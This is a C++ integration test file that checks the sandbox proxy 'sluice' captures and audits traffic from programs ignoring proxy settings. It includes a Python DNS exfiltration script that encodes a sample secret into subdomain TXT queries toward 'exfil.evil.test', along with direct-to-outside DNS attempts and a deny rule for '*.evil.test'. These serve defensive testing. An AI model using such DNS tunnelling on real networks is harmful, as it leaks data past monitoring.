// Transparent capture and sluice's DNS end to end (issue 13): `sluice run` programs that ignore
// the proxy variables — Node's fetch and http.get, curl --noproxy '*', Python sockets and ssl,
// getent — against upstreams in a network namespace this test makes (reached from the host over
// a veth pair, the way a private service would be), and DNS exfiltration attempts. Nothing may
// reach what no rule allows, and every attempt is in the audit store.
//
// Names: the programs in the sandbox resolve through sluice's DNS only (synthetic addresses);
// the proxy, on the host, resolves the names it dials with the system resolver, so each run is
// started in a mount namespace of its own where /etc/hosts maps the test's names to the
// upstream (nothing of the host changes).
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <thread>

#include "isolation.hpp"
#include "proc_scan.hpp"

namespace fs = std::filesystem;
using nlohmann::json;

namespace {

using sluice::testing::shellOutput;
using sluice::testing::slurp;
auto sh(const std::string& cmd) { return shellOutput(cmd); }

// The upstreams, all on 10.231.0.2 in the test's namespace: HTTP on 8080 (python http.server),
// a server-first "ssh-like" banner protocol on 2222 and 2223, TLS on 8443 (certificate for
// tls.allowed.test from a test CA; it answers with the SNI it got), and UDP 53. Every accepted
// connection and datagram is logged ("tcp PORT", "udp PORT") so a test can tell what arrived.
const char kServers[] = R"PY(
import http.server, os, socket, ssl, sys, threading
os.chdir(sys.argv[1])
log = open(sys.argv[2], "a", buffering=1)
lock = threading.Lock()
def note(what):
    with lock:
        log.write(what + "\n")
def listen(port, kind=socket.SOCK_STREAM):
    s = socket.socket(socket.AF_INET, kind)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("10.231.0.2", port))
    if kind == socket.SOCK_STREAM:
        s.listen(64)
    return s
def chat(c):
    try:
        c.sendall(b"SSH-2.0-sluice-test\r\n")
        line = c.makefile("rb").readline()
        c.sendall(b"got " + line)
    except OSError:
        pass
    finally:
        c.close()
def banner(s, port):
    while True:
        c, _ = s.accept()
        note("tcp %d" % port)
        threading.Thread(target=chat, args=(c,), daemon=True).start()
def tls_chat(ctx, c):
    try:
        t = ctx.wrap_socket(c, server_side=True)
        t.sendall(("tls-hello sni=%s\n" % getattr(t, "sni", None)).encode())
        t.close()
    except (OSError, ssl.SSLError):
        c.close()
def tls(s):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain("server.pem", "server.key")
    def sni(sock, name, _ctx):
        sock.sni = name
    ctx.sni_callback = sni
    while True:
        c, _ = s.accept()
        note("tcp 8443")
        threading.Thread(target=tls_chat, args=(ctx, c), daemon=True).start()
def udp(s):
    while True:
        s.recvfrom(4096)
        note("udp 53")
class Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *a):
        note("tcp 8080")
socks = [(banner, (listen(2222), 2222)), (banner, (listen(2223), 2223)),
         (tls, (listen(8443),)), (udp, (listen(53, socket.SOCK_DGRAM),))]
for fn, args in socks:
    threading.Thread(target=fn, args=args, daemon=True).start()
http.server.ThreadingHTTPServer(("10.231.0.2", 8080), Quiet).serve_forever()
)PY";

// Runs in the sandbox: the server-first protocol by name (through sluice's DNS, over TCP) and
// by address, then the same to a port no rule allows.
const char kRawScript[] = R"PY(
import errno, socket, struct
def dns_tcp(name):
    q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    q += struct.pack("!HH", 1, 1)
    t = socket.create_connection(("127.0.0.53", 53), timeout=5)
    t.sendall(struct.pack("!H", len(q)) + q)
    n = struct.unpack("!H", t.recv(2, socket.MSG_WAITALL))[0]
    r = t.recv(n, socket.MSG_WAITALL)
    t.close()
    rcode, ancount = r[3] & 15, struct.unpack("!H", r[6:8])[0]
    return rcode, (socket.inet_ntoa(r[-4:]) if ancount else None)
def talk(label, host, port):
    try:
        s = socket.create_connection((host, port), timeout=10)
        f = s.makefile("rb")
        banner = f.readline().strip().decode()  # the server speaks first
        s.sendall(b"hello\n")
        print(label, "banner=" + banner, "reply=" + f.readline().strip().decode())
    except OSError as e:
        print(label, errno.errorcode.get(e.errno, str(e)))
rcode, addr = dns_tcp("git.allowed.test")
print("dns-tcp", rcode, addr)
talk("by-synthetic", addr, 2222)
talk("by-name", "git.allowed.test", 2222)
talk("by-address", "10.231.0.2", 2222)
talk("other-port-by-name", "git.allowed.test", 2223)
talk("other-port-by-address", "10.231.0.2", 2223)
)PY";

// Runs in the sandbox: TLS to the upstream's address, decided by the SNI the client sends.
const char kTlsScript[] = R"PY(
import errno, socket, ssl
ca = open("/input/in/ca.pem").read()
def hello(label, sni):
    ctx = ssl.create_default_context(cadata=ca)
    if sni is None:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    try:
        s = socket.create_connection(("10.231.0.2", 8443), timeout=10)
        t = ctx.wrap_socket(s, server_hostname=sni)
        print(label, t.makefile("rb").readline().strip().decode())
    except (OSError, ssl.SSLError) as e:
        print(label, "refused", type(e).__name__, errno.errorcode.get(e.errno, ""))
hello("sni-allowed", "tls.allowed.test")
hello("sni-other", "evil.allowed.test")
hello("no-sni", None)
)PY";

// Runs in the sandbox: DNS exfiltration over UDP. Unique subdomains carrying data, TXT queries,
// of a denied suffix and of an allowed one, alternately; counts each answer's rcode and records.
const char kExfilScript[] = R"PY(
import collections, errno, socket, struct, sys
n = int(sys.argv[1])
def query(qid, name, qtype):
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return q + struct.pack("!HH", qtype, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(5)
u.connect(("127.0.0.53", 53))
seen = collections.Counter()
secret = b"the quarterly numbers are 42".hex()
for i in range(n):
    for kind, suffix in (("denied", "exfil.evil.test"), ("allowed", "data.allowed.test")):
        name = "%s%04d.%s" % (secret[(i * 7) % 40:(i * 7) % 40 + 16], i, suffix)
        qid = (i * 2 + (kind == "allowed")) & 0xffff
        u.send(query(qid, name, 16))
        r = u.recv(4096)
        ok = struct.unpack("!H", r[:2])[0] == qid
        seen["%s rcode=%d answers=%d%s" % (kind, r[3] & 15, struct.unpack("!H", r[6:8])[0],
                                           "" if ok else " WRONG-ID")] += 1
for k in sorted(seen):
    print(k, seen[k])
# Straight to a DNS server outside: no route leaves the namespace but through the proxy.
for addr in ("10.231.0.2", "192.0.2.53"):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2)
        s.connect((addr, 53))
        s.send(query(1, "x.exfil.evil.test", 16))
        s.recv(512)
        print("direct", addr, "ANSWERED")
    except OSError as e:
        print("direct", addr, errno.errorcode.get(e.errno, str(e)))
)PY";

// Runs in the sandbox: Node's http.get by name, without any proxy configuration (the sandbox's
// proxy variables are removed for it).
const char kNodeScript[] = R"JS(
for (const k of Object.keys(process.env)) if (/_proxy$/i.test(k)) delete process.env[k];
const http = require("http");
const get = (label, url) => new Promise((done) => {
  http.get(url, (res) => {
    let body = "";
    res.on("data", (c) => (body += c));
    res.on("end", () => { console.log(label, res.statusCode, body.trim()); done(); });
  }).on("error", (e) => { console.log(label, "error", e.code); done(); });
});
(async () => {
  await get("node-by-name", "http://web.allowed.test:8080/index.html");
  await get("node-denied-name", "http://nothing.evil.test:8080/index.html");
})();
)JS";

// An upstream namespace "sluice-tp-<pid>" with a veth to the host (10.231.0.1 / 10.231.0.2).
class TransparentRun : public ::testing::Test {
 protected:
  void SetUp() override {
    if (::geteuid() != 0) {
      if (isolationRequired()) FAIL() << "needs root";
      GTEST_SKIP() << "needs root";
    }
    ns_ = "sluice-tp-" + std::to_string(::getpid());
    dir_ = fs::temp_directory_path() / ns_;
    fs::create_directories(dir_ / "in");
    std::ofstream(dir_ / "index.html") << "hello from upstream\n";
    std::ofstream(dir_ / "servers.py") << kServers;
    std::ofstream(dir_ / "in" / "raw.py") << kRawScript;
    std::ofstream(dir_ / "in" / "tls.py") << kTlsScript;
    std::ofstream(dir_ / "in" / "exfil.py") << kExfilScript;
    std::ofstream(dir_ / "in" / "get.js") << kNodeScript;
    // The names the proxy dials, for its resolver only (see the file comment).
    std::ofstream(dir_ / "hosts") << "127.0.0.1 localhost\n"
                                     "10.231.0.2 git.allowed.test tls.allowed.test "
                                     "evil.allowed.test web.allowed.test\n";
    std::ofstream(dir_ / "with-hosts.sh")
        << "#!/bin/sh\nmount --bind \"$TP_HOSTS\" /etc/hosts || exit 97\nexec \"$@\"\n";
    fs::permissions(dir_ / "with-hosts.sh", fs::perms::owner_all);
    const std::string d = dir_.string();
    auto [crc, cout_] =
        sh("(set -e; cd " + d +
           "; openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 "
           "-keyout ca.key -out in/ca.pem -subj /CN=sluice-test-ca; "
           "openssl req -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout "
           "server.key -out server.csr -subj /CN=tls.allowed.test; "
           "printf 'subjectAltName=DNS:tls.allowed.test\\n' > ext; "
           "openssl x509 -req -in server.csr -CA in/ca.pem -CAkey ca.key -CAcreateserial -days 2 "
           "-extfile ext -out server.pem)");
    ASSERT_EQ(crc, 0) << cout_;
    const std::string host_if = "tph" + std::to_string(::getpid() % 100000);
    const std::string ns_if = "tpn" + std::to_string(::getpid() % 100000);
    auto [rc, out] =
        sh("set -e; ip netns add " + ns_ + "; ip link add " + host_if + " type veth peer name " +
           ns_if + "; ip link set " + ns_if + " netns " + ns_ + "; ip addr add 10.231.0.1/24 dev " +
           host_if + "; ip link set " + host_if + " up; ip netns exec " + ns_ +
           " ip addr add 10.231.0.2/24 dev " + ns_if + "; ip netns exec " + ns_ + " ip link set " +
           ns_if + " up; ip netns exec " + ns_ + " ip link set lo up");
    ASSERT_EQ(rc, 0) << out;
    host_if_ = host_if;
    server_ = ::fork();
    if (server_ == 0) {
      ::execlp("ip", "ip", "netns", "exec", ns_.c_str(), "/usr/bin/python3",
               (dir_ / "servers.py").c_str(), dir_.c_str(), (dir_ / "upstream.log").c_str(),
               static_cast<char*>(nullptr));
      ::_exit(99);
    }
    // The HTTP server starts last: once it answers, every other listener is up.
    bool up = false;
    for (int i = 0; i < 100 && !up; ++i) {
      up = sh("curl -s --max-time 1 http://10.231.0.2:8080/index.html").second.find("hello") !=
           std::string::npos;
      if (!up) std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
    ASSERT_TRUE(up) << "the upstreams did not start";
    fs::resize_file(dir_ / "upstream.log", 0);  // only what the runs send counts
    writePolicy("policy.yaml", 1000);
  }
  void TearDown() override {
    if (server_ > 0) {
      ::kill(server_, SIGTERM);
      ::waitpid(server_, nullptr, 0);
    }
    if (!host_if_.empty()) sh("ip link del " + host_if_ + "; ip netns del " + ns_);
    if (std::getenv("TP_KEEP") == nullptr) fs::remove_all(dir_);
  }

  void writePolicy(const std::string& file, int max_dns_queries) {
    std::ofstream(dir_ / file)
        << "apiVersion: sluice/v1\nkind: Workflow\nname: transparent\nsandbox:\n  timeout: 60s\n"
           "  network: proxy\negress:\n  rules:\n"
           "    - {id: private-api, action: allow, cidrs: [\"10.231.0.2/32\"], allow_private: "
           "true, ports: [8080, 2222]}\n"
           "    - {id: named, action: allow, hosts: [\"api.allowed.test\"], ports: [443]}\n"
           "    - {id: git, action: allow, hosts: [git.allowed.test], cidrs: [\"10.231.0.2/32\"],"
           " allow_private: true, ports: [2222]}\n"
           "    - {id: tls-api, action: allow, hosts: [tls.allowed.test], cidrs: "
           "[\"10.231.0.2/32\"], allow_private: true, ports: [8443]}\n"
           "    - {id: web, action: allow, hosts: [web.allowed.test], cidrs: [\"10.231.0.2/32\"],"
           " allow_private: true, ports: [8080]}\n"
           "    - {id: exfil-allowed, action: allow, hosts: [\"*.data.allowed.test\"], ports: "
           "[443]}\n"
           "    - {id: no-evil, action: deny, hosts: [\"*.evil.test\"]}\n"
           "  limits: {max_dns_queries: "
        << max_dns_queries << "}\n";
  }
  // `sluice run --json -- ARGS` (ARGS is shell text): the receipt. /input/in holds the scripts.
  json run(const std::string& args, const std::string& policy = "policy.yaml") {
    auto [rc, out] =
        sh("TP_HOSTS=" + (dir_ / "hosts").string() + " unshare -m --propagation " + "private " +
           (dir_ / "with-hosts.sh").string() + " " + SLUICE_BINARY + " run --policy " +
           (dir_ / policy).string() + " --audit " + db() + " --input " + (dir_ / "in").string() +
           ":in --receipt " + (dir_ / "receipt.json").string() + " --json -- " + args);
    json j = json::parse(out.substr(std::min(out.find('{'), out.size())), nullptr, false);
    EXPECT_FALSE(j.is_discarded()) << out;
    // No receipt: what sluice said stands in for the program's output, so every expectation
    // fails with it rather than the test aborting on a missing field.
    if (j.is_discarded() || !j.contains("stdout"))
      return json{{"stdout", {{"text", out}}}, {"execution_id", ""}};
    return j;
  }
  std::string db() const { return (dir_ / "audit.db").string(); }
  std::string sql(const std::string& q) {
    return sh(std::string(SLUICE_BINARY) + " audit sql --db " + db() + " --format csv \"" + q +
              "\"")
        .second;
  }
  // The one number a `SELECT count(*) ...` returns.
  long count(const std::string& q) {
    const std::string out = sql(q);
    const auto nl = out.find('\n');
    return nl == std::string::npos ? -1 : std::atol(out.c_str() + nl + 1);
  }
  // How many lines "tcp PORT" / "udp PORT" the upstreams logged.
  int arrived(const std::string& what) {
    const std::string log = slurp(dir_ / "upstream.log");
    int n = 0;
    for (std::size_t at = log.find(what + "\n"); at != std::string::npos;
         at = log.find(what + "\n", at + 1))
      if (at == 0 || log[at - 1] == '\n') ++n;
    return n;
  }
  bool receiptMatchesSchema() {
    const std::string cmd =
        "python3 -c 'import json,sys,jsonschema; jsonschema.validate(json.load(open(sys.argv[1])),"
        " json.load(open(sys.argv[2])))' " +
        (dir_ / "receipt.json").string() + " " SLUICE_SOURCE_DIR "/schemas/receipt.v1.schema.json";
    return std::system(cmd.c_str()) == 0;
  }

  std::string ns_, host_if_;
  fs::path dir_;
  pid_t server_ = -1;
};

TEST_F(TransparentRun, ClientsThatIgnoreProxyVariablesStillGoThroughThePolicy) {
  REQUIRE_SANDBOX();
  // Node's fetch, curl with the proxy disabled, and a raw Python socket: to an allowed private
  // address (cidrs rule) they get the page; to anything else the connection is reset.
  auto r = run(
      "/bin/sh -c 'node -e \"fetch(\\\"http://10.231.0.2:8080/index.html\\\").then(r=>r.text())"
      ".then(t=>console.log(\\\"node:\\\"+t.trim())).catch(e=>console.log(\\\"node-error\\\"))\"; "
      "curl -s --noproxy \"*\" --max-time 5 http://10.231.0.2:8080/index.html | sed s/^/curl:/; "
      "python3 -c \"import socket; s=socket.create_connection((\\\"10.231.0.2\\\",8081),5); "
      "s.sendall(b\\\"x\\\"); print(\\\"py-open\\\", s.recv(10))\" 2>/dev/null || echo "
      "py-refused'");
  const std::string out = r["stdout"]["text"];
  EXPECT_NE(out.find("node:hello from upstream"), std::string::npos) << out << r.dump();
  EXPECT_NE(out.find("curl:hello from upstream"), std::string::npos) << out;
  EXPECT_NE(out.find("py-refused"), std::string::npos) << out;
  EXPECT_EQ(count("SELECT count(*) AS n FROM connections WHERE kind = 'transparent' AND "
                  "decision = 'allow' AND host = '10.231.0.2'"),
            2);
  EXPECT_EQ(count("SELECT count(*) AS n FROM connections WHERE kind = 'transparent' AND "
                  "decision = 'deny' AND port = 8081"),
            1);
}

TEST_F(TransparentRun, NodeHttpGetByNameWithoutProxyConfiguration) {
  REQUIRE_SANDBOX();
  auto r = run("node /input/in/get.js");
  const std::string out = r["stdout"]["text"];
  // The name resolved to a synthetic address, the redirected connection was decided by name.
  EXPECT_NE(out.find("node-by-name 200 hello from upstream"), std::string::npos) << out << r.dump();
  // A name no rule allows does not even resolve.
  EXPECT_NE(out.find("node-denied-name error ENOTFOUND"), std::string::npos) << out;
  EXPECT_EQ(count("SELECT count(*) FROM connections WHERE kind = 'transparent' AND decision = "
                  "'allow' AND host = 'web.allowed.test' AND port = 8080 AND rule_id = 'web'"),
            1);
  EXPECT_GE(count("SELECT count(*) FROM dns_queries WHERE name = 'nothing.evil.test' AND "
                  "decision = 'deny' AND answer = 'NXDOMAIN' AND rule_id = 'no-evil'"),
            1);
  EXPECT_EQ(arrived("tcp 8080"), 1);
}

TEST_F(TransparentRun, AServerFirstProtocolIsTunnelledWhereAllowedAndResetElsewhere) {
  REQUIRE_SANDBOX();
  auto r = run("python3 /input/in/raw.py");
  const std::string out = r["stdout"]["text"];
  // TCP DNS answered with a synthetic address; the server's banner comes first either way.
  EXPECT_NE(out.find("dns-tcp 0 198.18."), std::string::npos) << out << r.dump();
  for (const char* l : {"by-synthetic", "by-name", "by-address"})
    EXPECT_NE(out.find(std::string(l) + " banner=SSH-2.0-sluice-test reply=got hello"),
              std::string::npos)
        << l << "\n"
        << out;
  EXPECT_NE(out.find("other-port-by-name ECONNRESET"), std::string::npos) << out;
  EXPECT_NE(out.find("other-port-by-address ECONNRESET"), std::string::npos) << out;
  EXPECT_EQ(arrived("tcp 2222"), 3);
  EXPECT_EQ(arrived("tcp 2223"), 0);  // nothing reached the port no rule allows
  // Every attempt is a row: the two refusals with their targets, the DNS query over TCP.
  EXPECT_EQ(count("SELECT count(*) FROM connections WHERE kind = 'transparent' AND decision = "
                  "'allow' AND port = 2222"),
            3);
  EXPECT_EQ(count("SELECT count(*) FROM connections WHERE kind = 'transparent' AND decision = "
                  "'allow' AND host = 'git.allowed.test' AND rule_id = 'git'"),
            2);
  // By name Python tries each address the name resolved to (A and AAAA), each one reset as
  // soon as the proxy has the connection: one row per attempt.
  EXPECT_EQ(count("SELECT count(*) FROM connections WHERE kind = 'transparent' AND decision = "
                  "'deny' AND port = 2223 AND host = '10.231.0.2' AND reason = "
                  "'port_not_allowed'"),
            1);
  const long by_name = count(
      "SELECT count(*) FROM connections WHERE kind = 'transparent' AND decision = 'deny' AND "
      "port = 2223 AND host = 'git.allowed.test' AND reason = 'port_not_allowed'");
  EXPECT_TRUE(by_name == 1 || by_name == 2) << by_name;
  EXPECT_GE(count("SELECT count(*) FROM dns_queries WHERE name = 'git.allowed.test' AND qtype = "
                  "'A' AND decision = 'allow' AND rule_id = 'git' AND answer LIKE '198.18.%'"),
            1);
}

TEST_F(TransparentRun, TlsIsDecidedByItsServerName) {
  REQUIRE_SANDBOX();
  auto r = run("python3 /input/in/tls.py");
  const std::string out = r["stdout"]["text"];
  // The same address and port: the SNI a rule allows gets through (and the upstream's
  // certificate verifies end to end), another SNI and none at all are reset.
  EXPECT_NE(out.find("sni-allowed tls-hello sni=tls.allowed.test"), std::string::npos)
      << out << r.dump();
  EXPECT_NE(out.find("sni-other refused"), std::string::npos) << out;
  EXPECT_NE(out.find("no-sni refused"), std::string::npos) << out;
  EXPECT_EQ(arrived("tcp 8443"), 1);
  EXPECT_EQ(count("SELECT count(*) FROM connections WHERE kind = 'transparent' AND decision = "
                  "'allow' AND host = 'tls.allowed.test' AND port = 8443 AND rule_id = "
                  "'tls-api'"),
            1);
  EXPECT_EQ(count("SELECT count(*) FROM connections WHERE kind = 'transparent' AND decision = "
                  "'deny' AND host = 'evil.allowed.test' AND port = 8443"),
            1);
  EXPECT_EQ(count("SELECT count(*) FROM connections WHERE kind = 'transparent' AND decision = "
                  "'deny' AND host = '10.231.0.2' AND port = 8443"),
            1);
}

TEST_F(TransparentRun, DnsAnswersOnlyWhatARuleCouldAllowAndNothingLeaves) {
  REQUIRE_SANDBOX();
  auto r =
      run("/bin/sh -c 'getent hosts api.allowed.test | cut -d\" \" -f1 | sed s/^/allowed:/; "
          "getent hosts exfil-1234abcd.denied.test || echo denied-nxdomain; "
          "for i in $(seq 1 200); do getent hosts \"$i-data.leak.test\" >/dev/null && echo LEAKED; "
          "done'");
  const std::string out = r["stdout"]["text"];
  // getent may print the AAAA (64:ff9b:1::/48) or the A (198.18.0.0/15) answer.
  EXPECT_TRUE(out.find("allowed:198.18.") != std::string::npos ||
              out.find("allowed:64:ff9b:1::") != std::string::npos)
      << out << r.dump();
  EXPECT_NE(out.find("denied-nxdomain"), std::string::npos) << out;
  EXPECT_EQ(out.find("LEAKED"), std::string::npos) << out;
  // Every query is a row (getent asks A and AAAA: at least one row per name).
  EXPECT_GE(count("SELECT count(DISTINCT name) AS n FROM dns_queries WHERE decision = 'deny'"),
            201);
  auto [rc, v] = sh(std::string(SLUICE_BINARY) + " audit verify --db " + db());
  EXPECT_EQ(rc, 0) << v;
}

TEST_F(TransparentRun, DnsExfiltrationIsAnsweredNothingRecordedWholeAndCutOffAtTheLimit) {
  REQUIRE_SANDBOX();
  // 2 x 2000 unique TXT queries against a limit of 3000: the first 3000 are answered (NXDOMAIN
  // for the denied suffix, NODATA for the allowed one: no record either way), the rest REFUSED;
  // every one of the 4000 is a row (past the limit rows go on for as many again).
  writePolicy("exfil.yaml", 3000);
  auto r = run("python3 /input/in/exfil.py 2000", "exfil.yaml");
  const std::string out = r["stdout"]["text"];
  EXPECT_NE(out.find("denied rcode=3 answers=0 1500\n"), std::string::npos) << out << r.dump();
  EXPECT_NE(out.find("allowed rcode=0 answers=0 1500\n"), std::string::npos) << out;
  EXPECT_NE(out.find("denied rcode=5 answers=0 500\n"), std::string::npos) << out;
  EXPECT_NE(out.find("allowed rcode=5 answers=0 500\n"), std::string::npos) << out;
  EXPECT_EQ(out.find("WRONG-ID"), std::string::npos) << out;
  EXPECT_NE(out.find("direct 10.231.0.2 EPERM"), std::string::npos) << out;
  EXPECT_NE(out.find("direct 192.0.2.53 EPERM"), std::string::npos) << out;
  EXPECT_EQ(arrived("udp 53"), 0);
  const std::string exec = r["execution_id"];
  const std::string of = "FROM dns_queries WHERE execution_id = '" + exec + "'";
  EXPECT_EQ(count("SELECT count(*) " + of), 4000);
  EXPECT_EQ(count("SELECT count(DISTINCT name) " + of), 4000);
  EXPECT_EQ(count("SELECT count(*) " + of +
                  " AND qtype = 'TXT' AND decision = 'deny' AND answer = 'NXDOMAIN' AND reason = "
                  "'denied_by_rule' AND rule_id = 'no-evil' AND name LIKE '%.exfil.evil.test'"),
            1500);
  EXPECT_EQ(count("SELECT count(*) " + of +
                  " AND qtype = 'TXT' AND decision = 'allow' AND answer = 'NODATA' AND rule_id = "
                  "'exfil-allowed' AND name LIKE '%.data.allowed.test'"),
            1500);
  EXPECT_EQ(count("SELECT count(*) " + of +
                  " AND decision = 'deny' AND answer = 'REFUSED' AND reason = 'limit_exceeded'"),
            1000);
  // The receipt counts them too, and still matches its schema.
  EXPECT_EQ(r["network"]["dns"]["queries"], 4000) << r["network"].dump();
  EXPECT_EQ(r["network"]["dns"]["denied"], 2500) << r["network"].dump();
  EXPECT_TRUE(receiptMatchesSchema());
  auto [rc, v] = sh(std::string(SLUICE_BINARY) + " audit verify --db " + db());
  EXPECT_EQ(rc, 0) << v;
}

}  // namespace
